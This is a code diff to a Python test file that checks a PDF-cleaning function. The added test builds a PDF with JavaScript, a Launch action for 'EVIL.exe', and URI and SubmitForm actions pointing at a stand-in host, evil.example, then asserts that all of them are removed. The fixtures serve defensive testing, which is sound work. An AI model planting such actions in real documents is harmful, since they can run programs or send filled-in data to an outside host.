@@ -7,9 +7,9 @@ import io
 import pikepdf
 import pytest
 
+from bookbag.content.documents.cleanable_pdf import UncleanableError
 from bookbag.content.documents.movie_boxes import DamagedFilmError, blanked_film, film_says_where
 from bookbag.outputs.published_files.cleaned_documents import published_document
-from bookbag.outputs.published_files.heavy_libraries import UncleanableError
 from tests.helpers import tainted_documents as tainted
 from tests.helpers.tainted_pictures import SECRET
 
@@ -66,6 +66,37 @@ def test_a_pdf_that_cannot_be_changed_is_told(raw: bytes) -> None:
     """Damaged and signed PDF files cannot be cleaned."""
     with pytest.raises(UncleanableError):
         published_document(raw)
+
+
+def test_a_pdf_runs_and_sends_nothing() -> None:
+    """Programs are gone, wherever they stand, and so is what opens elsewhere by itself or sends what was filled in."""
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page()
+    name, action = pikepdf.Name, pikepdf.Dictionary
+    program = action(S=name.JavaScript, JS="app.alert('EVIL')")
+    document.Root.OpenAction = action(S=name.URI, URI="https://evil.example/EVIL")
+    document.Root.Names = action(JavaScript=action(Names=["a", document.make_indirect(program)]))
+    document.Root.AA = action(WC=program)
+    actions = [program, action(S=name.Launch, F="EVIL.exe"), action(S=name.SubmitForm, F="https://evil.example/EVIL")]
+    link = action(S=name.URI, URI="https://www.example.org/")
+    document.pages[0].Annots = [action(Subtype=name.Link, Rect=[0, 0, 9, 9], A=each) for each in (*actions, link)]
+    document.save(out)
+    with pikepdf.open(io.BytesIO(published_document(out.getvalue()))) as pdf:
+        plain = io.BytesIO()
+        pdf.save(plain, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
+    assert b"EVIL" not in plain.getvalue()
+    assert b"/OpenAction" not in plain.getvalue()
+    assert plain.getvalue().count(b"https://www.example.org/") == 1
+
+
+def test_a_pdf_that_opens_at_a_page_does_so() -> None:
+    """Where a PDF begins is no program."""
+    document, out = pikepdf.new(), io.BytesIO()
+    document.add_blank_page()
+    document.Root.OpenAction = [document.pages[0].obj, pikepdf.Name.Fit]
+    document.save(out)
+    with pikepdf.open(io.BytesIO(published_document(out.getvalue()))) as pdf:
+        assert "/OpenAction" in pdf.Root
 
 
 def test_a_locked_pdf_is_told() -> None:
